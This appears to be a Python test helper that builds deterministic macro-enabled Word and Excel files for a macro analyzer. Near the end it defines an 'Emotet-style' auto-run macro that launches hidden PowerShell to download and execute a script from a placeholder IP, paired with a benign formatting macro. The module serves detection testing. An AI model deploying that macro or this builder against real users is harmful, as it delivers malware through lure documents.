"""Deterministic macro-enabled Office files for samples and tests.

`vbaProject.bin` comes from ms-ovba (a test dependency), which writes real MS-OVBA
streams that olevba parses; it works on files in the current directory, so it runs in a
private temporary directory. The OOXML package around it is the minimum Office and
olevba recognise, with fixed timestamps so that output is byte-for-byte stable.
"""

from __future__ import annotations

import io
import os
import random
import tempfile
import uuid
import zipfile
from pathlib import Path

_FIXED_DATE = (2022, 3, 1, 9, 0, 0)
_CLASS_HEADER = (
    "VERSION 1.0 CLASS\nBEGIN\n  MultiUse = -1  'True\nEND\n"
    'Attribute VB_Name = "{name}"\nAttribute VB_GlobalNameSpace = False\n'
    "Attribute VB_Creatable = False\nAttribute VB_PredeclaredId = True\n"
    "Attribute VB_Exposed = True\n"
)
# Host document module names and the type GUIDs Office gives them.
_HOSTS = {
    "word": ("ThisDocument", "00020906-0000-0000-C000-000000000046"),
    "excel": ("ThisWorkbook", "00020819-0000-0000-C000-000000000046"),
}


def build_vba_project(
    *, host: str = "word", document_code: str = "", modules: dict[str, str] | None = None
) -> bytes:
    """A vbaProject.bin whose host document module holds `document_code`."""
    from ms_ovba.Models.Entities.doc_module import DocModule
    from ms_ovba.Models.Entities.std_module import StdModule
    from ms_ovba.vbaProject import VbaProject
    from ms_ovba.Views.project_ole_file import ProjectOleFile

    doc_name, doc_guid = _HOSTS[host]
    previous = Path.cwd()
    # ms-ovba draws the PROJECT stream's obfuscation seeds from `random`: pin them.
    state = random.getstate()
    random.seed(20220301)
    with tempfile.TemporaryDirectory() as work:
        os.chdir(work)
        try:
            project = VbaProject()
            project.project_id = "{9E394C0B-697E-4AEE-9FA6-446F51FB30DC}"
            cls = Path(f"{doc_name}.cls")
            cls.write_text(_CLASS_HEADER.format(name=doc_name) + document_code, encoding="ascii")
            document = DocModule(doc_name)
            document.add_file(str(cls))
            document.add_guid(uuid.UUID(doc_guid))
            document.normalize_file()
            project.add_module(document)
            for name, code in sorted((modules or {}).items()):
                bas = Path(f"{name}.bas")
                bas.write_text(f'Attribute VB_Name = "{name}"\n' + code, encoding="ascii")
                module = StdModule(name)
                module.add_file(str(bas))
                module.normalize_file()
                project.add_module(module)
            ProjectOleFile.write_file(project)
            return Path("vbaProject.bin").read_bytes()
        finally:
            os.chdir(previous)
            random.setstate(state)


def _zip(members: list[tuple[str, bytes]]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            info = zipfile.ZipInfo(name, date_time=_FIXED_DATE)
            info.compress_type = zipfile.ZIP_DEFLATED
            info.external_attr = 0o644 << 16
            archive.writestr(info, data)
    return buffer.getvalue()


_CT = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
_PKG = "http://schemas.openxmlformats.org/package/2006"
_DOC_REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_VBA_REL = "http://schemas.microsoft.com/office/2006/relationships/vbaProject"


def _rels(rel_type: str, target: str) -> bytes:
    return (
        _CT + f'<Relationships xmlns="{_PKG}/relationships">'
        f'<Relationship Id="rId1" Type="{rel_type}" Target="{target}"/></Relationships>'
    ).encode()


def _package(folder: str, main_name: str, main_type: str, main_xml: str, vba: bytes) -> bytes:
    """An OOXML package: one main part that references `<folder>/vbaProject.bin`."""
    content_types = (
        _CT + f'<Types xmlns="{_PKG}/content-types">'
        f'<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
        'relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
        f'<Override PartName="/{folder}/{main_name}" ContentType="{main_type}"/></Types>'
    )
    return _zip(
        [
            ("[Content_Types].xml", content_types.encode()),
            ("_rels/.rels", _rels(f"{_DOC_REL}/officeDocument", f"{folder}/{main_name}")),
            (f"{folder}/{main_name}", (_CT + main_xml).encode()),
            (f"{folder}/_rels/{main_name}.rels", _rels(_VBA_REL, "vbaProject.bin")),
            (f"{folder}/vbaProject.bin", vba),
        ]
    )


def build_docm(vba_project: bytes, text: str = "Invoice") -> bytes:
    """A minimal macro-enabled Word document (.docm)."""
    document = (
        '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main">'
        f"<w:body><w:p><w:r><w:t>{text}</w:t></w:r></w:p></w:body></w:document>"
    )
    main_type = "application/vnd.ms-word.document.macroEnabled.main+xml"
    return _package("word", "document.xml", main_type, document, vba_project)


def build_xlsm(vba_project: bytes) -> bytes:
    """A minimal macro-enabled Excel workbook (.xlsm)."""
    workbook = (
        '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        "<sheets/></workbook>"
    )
    main_type = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    return _package("xl", "workbook.xml", main_type, workbook, vba_project)


# Emotet-style: runs on open and starts a program.
DROPPER_MACRO = (
    "Sub Document_Open()\n"
    "    Dim s As String\n"
    '    s = "powershell -w hidden -c ""IEX (New-Object Net.WebClient).DownloadString(\'http://203.0.113.7/p\')"""\n'
    "    Shell s, 0\n"
    "End Sub\n"
)
# A business macro: runs on open but only formats cells.
FORMATTING_MACRO = (
    'Private Sub Workbook_Open()\n    Worksheets(1).Range("A1:D1").Font.Bold = True\nEnd Sub\n'
)
